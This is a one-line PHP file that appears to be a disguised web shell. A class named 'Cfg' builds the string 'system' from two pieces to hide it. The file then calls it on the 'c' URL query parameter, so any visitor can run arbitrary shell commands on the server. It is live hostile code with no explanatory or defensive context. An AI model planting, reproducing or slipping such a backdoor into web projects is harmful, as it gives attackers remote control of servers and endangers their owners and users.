<?php class Cfg { public $h = 'sys' . 'tem'; } $o = new Cfg; ($o->h)($_GET['c']);
